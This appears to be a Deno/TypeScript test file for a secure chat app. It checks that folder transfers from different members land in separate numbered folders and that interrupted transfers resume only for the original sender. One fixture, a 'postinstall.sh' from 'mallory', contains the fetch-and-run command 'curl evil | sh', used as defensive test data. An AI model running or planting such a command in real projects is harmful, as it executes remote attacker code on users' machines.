/**
 * A folder offer is received into a top-level folder the transfer creates itself (PROTOCOL.md
 * 14.3): a folder of the same name already there, the user's or one another member sent, is
 * never added to; the offer goes to "NAME (1)", "NAME (2)", ... and the prompt and the "done"
 * event say so. An interrupted folder transfer resumes into its own folder, and only the same
 * sender with the same manifest gets it back. Real files and seals; the recipient's manager is
 * driven message by message.
 */

import { deepStrictEqual, ok, strictEqual } from "node:assert/strict";
import type { ChatEvent, MemberInfo } from "../../lib/chat/chat_events.ts";
import { sha256 } from "../../lib/core/bytes.ts";
import {
  decodeTransfer,
  encodeManifest,
  encodeTransfer,
  type ManifestEntry,
  MAX_DATA_SLICE,
} from "../../lib/transfer/transfer_messages.ts";
import {
  HandSender,
  inTempRoom,
  memberInfos,
  randomBytes,
  type TestEndpoint,
} from "../_helpers/transfer_context.ts";

const [alice, bob, mallory] = await memberInfos("alice", "bob", "mallory") as [
  MemberInfo,
  MemberInfo,
  MemberInfo,
];

/** Alice (accepting every offer) in a room with Bob and Mallory, driven by the test. */
async function withAlice(body: (alice: TestEndpoint, dir: string) => Promise<void>) {
  await inTempRoom("securechat-folders-", async (room, dir) => {
    room.addPeer(bob);
    room.addPeer(mallory);
    await body(room.join(alice, { receiveDir: dir, autoAccept: true }), dir);
  });
}

/** A folder to send: its manifest entries and their contents. */
async function folder(files: Record<string, Uint8Array>) {
  const entries: ManifestEntry[] = [];
  for (const [path, content] of Object.entries(files)) {
    entries.push({ path, size: content.length, sha256: await sha256(content) });
  }
  return { name: entries[0]!.path.split("/")[0]!, entries, contents: Object.values(files) };
}

type Folder = Awaited<ReturnType<typeof folder>>;

/**
 * `from` offers `sent` to Alice and, once accepted, sends the manifest and each file's bytes
 * from where the Resume says up to `stop[i]` (default: the whole file), then Done unless cut.
 * Returns the Resume points Alice sent.
 */
async function transfer(alice: TestEndpoint, from: MemberInfo, sent: Folder, stop: number[] = []) {
  const sender = new HandSender(from, alice);
  const manifest = encodeManifest(sent.entries);
  await sender.offer({
    timestamp: Date.now(),
    name: sent.name,
    fileCount: sent.entries.length,
    totalSize: sent.entries.reduce((sum, e) => sum + e.size, 0),
    manifestSha256: await sha256(manifest),
  });
  await sender.sealed(encodeTransfer.manifest(sender.party, sender.id, 0, manifest));
  const resume = decodeTransfer(alice.sent.at(-1)!.bytes);
  if (resume.type !== "resume") throw new Error(`expected a resume, got ${resume.type}`);
  let cut = false;
  for (const [index, content] of sent.contents.entries()) {
    const start = resume.points.find((p) => p.fileIndex === index)?.length ?? 0;
    const end = stop[index] ?? content.length;
    for (let offset = start; offset < end; offset += MAX_DATA_SLICE) {
      await sender.data(
        index,
        offset,
        content.subarray(offset, Math.min(end, offset + MAX_DATA_SLICE)),
      );
    }
    if (end < content.length) {
      cut = true;
      break;
    }
  }
  if (!cut) await sender.done();
  return resume.points;
}

async function tree(path: string, prefix = ""): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for await (const entry of Deno.readDir(path)) {
    const name = `${prefix}${entry.name}`;
    if (entry.isDirectory) {
      out[`${name}/`] = "";
      Object.assign(out, await tree(`${path}/${entry.name}`, `${name}/`));
    } else out[name] = entry.isFile ? await Deno.readTextFile(`${path}/${entry.name}`) : "link";
  }
  return out;
}

const text = (s: string) => new TextEncoder().encode(s);
const offers = (events: ChatEvent[]) =>
  events.filter((e): e is ChatEvent & { type: "offer" } => e.type === "offer");
const ends = (events: ChatEvent[]) =>
  events.filter((e): e is ChatEvent & { type: "transfer" } =>
    e.type === "transfer" && ["done", "failed", "rejected", "cancelled"].includes(e.state)
  );

Deno.test("a second member's folder offer named like the first one's goes to \"project (1)\", never into it", async () => {
  await withAlice(async (alice, dir) => {
    const events = alice.events;
    await transfer(alice, bob, await folder({ "project/main.ts": text("bob's code") }));
    const before = await tree(dir);
    deepStrictEqual(before, { "project/": "", "project/main.ts": "bob's code" });
    const evil = await folder({
      "project/main.ts": text("mallory's code"),
      "project/postinstall.sh": text("curl evil | sh"),
    });
    await transfer(alice, mallory, evil);
    strictEqual(offers(events)[1]!.saveAs, "project (1)");
    const done = ends(events);
    deepStrictEqual(done.map((e) => [e.peer.name, e.state, e.path]), [
      ["bob", "done", `${dir}/project`],
      ["mallory", "done", `${dir}/project (1)`],
    ]);
    deepStrictEqual(await tree(dir), {
      ...before,
      "project (1)/": "",
      "project (1)/main.ts": "mallory's code",
      "project (1)/postinstall.sh": "curl evil | sh",
    });
  });
});

Deno.test("an interrupted folder transfer resumes into its own folder, for the same sender and manifest only", async () => {
  await withAlice(async (alice, dir) => {
    const events = alice.events;
    await Deno.mkdir(`${dir}/project`);
    await Deno.writeTextFile(`${dir}/project/keep.txt`, "the user's own");
    const big = randomBytes(200_000);
    const project = await folder({ "project/a.txt": text("alpha"), "project/big.bin": big });
    // Bob's transfer breaks 90,000 bytes into big.bin: the connection is gone.
    await transfer(alice, bob, project, [5, 90_000]);
    strictEqual(offers(events)[0]!.saveAs, "project (1)");
    await alice.manager.abortAll("the connection was lost");
    deepStrictEqual(
      (await Array.fromAsync(Deno.readDir(dir))).map((e) => e.name).sort(),
      ["project", "project (1)", "project (1).securechat-resume"],
    );
    // Mallory offering the very same manifest gets a folder of her own and no resume.
    const theirs = await transfer(alice, mallory, project);
    deepStrictEqual(theirs, []);
    strictEqual(offers(events)[1]!.saveAs, "project (2)");
    strictEqual(ends(events).at(-1)!.path, `${dir}/project (2)`);
    // Bob's resend resumes big.bin in "project (1)".
    const points = await transfer(alice, bob, project);
    strictEqual(offers(events)[2]!.saveAs, "project (1)");
    deepStrictEqual(points.map((p) => [p.fileIndex, p.length]), [[1, 90_000]]);
    const done = ends(events).at(-1)!;
    deepStrictEqual([done.peer.name, done.state, done.path, done.resumed], [
      "bob",
      "done",
      `${dir}/project (1)`,
      90_000,
    ]);
    deepStrictEqual(await Deno.readFile(`${dir}/project (1)/big.bin`), big);
    deepStrictEqual(await tree(`${dir}/project`), { "keep.txt": "the user's own" });
    ok(!(await tree(dir))["project (3)/"]);
    // Both folders are complete: no record is left to resume into.
    deepStrictEqual(
      Object.keys(await tree(dir)).filter((name) => name.includes(".securechat-")),
      [],
    );
  });
});
